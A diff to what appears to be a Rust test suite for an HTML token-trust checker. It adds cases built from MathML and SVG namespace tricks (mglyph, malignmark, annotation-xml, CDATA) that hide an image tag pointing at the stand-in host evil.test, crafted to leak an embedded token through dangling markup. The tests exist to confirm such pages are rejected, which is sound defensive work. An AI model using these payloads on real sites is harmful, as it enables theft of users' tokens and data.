@@ -194,6 +194,21 @@ fn no_token_after_markup_a_browser_may_read_otherwise() {
             format!("<select><iframe></select><img src='//evil.test/?</iframe>{embed}'>"),
             "a text element in a select",
         ),
+        // `mglyph` and `malignmark` stay MathML at a MathML text
+        // integration point, and so does an `svg` in them: its `desc` is no
+        // integration point, and `<![CDATA[` opens a section there.
+        (
+            format!("<math><mi><mglyph><svg><desc><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
+            "an svg in an mglyph at a text integration point",
+        ),
+        (
+            format!("<math><mtext><malignmark><svg><foreignObject><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
+            "an svg in a malignmark",
+        ),
+        (
+            format!("<math><mo><mglyph><math><annotation-xml encoding=text/html></mo><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
+            "a math in an mglyph",
+        ),
     ] {
         assert_eq!(trusted(&page, false).last(), Some(&false), "{why}: {page}");
     }
@@ -209,6 +224,8 @@ fn well_formed_svg_math_and_select_keep_the_tokens_after_them() {
         format!("<svg><foreignObject><div>Label<br></div></foreignObject><style>a</style></svg>{embed}"),
         format!("<svg><desc><b>bold</b></desc><g><title>t</title></g><script>x</script></svg>{embed}"),
         format!("<math><mrow><mi>x</mi></mrow></math><textarea>a</textarea>{embed}"),
+        format!("<math><mi><mglyph src=a.png alt=a/></mi></math><style>a</style>{embed}"),
+        format!("<math><mi><mglyph src=a.png alt=a></mi><mo>+</mo></math><style>a</style>{embed}"),
         format!("<svg><g><g></g></g><style>a</style></svg>{embed}"),
         format!("<select><option>a</option><script>b</script></select><style>c</style>{embed}"),
         // An unsure stretch that comes back to HTML before anything is read two ways.
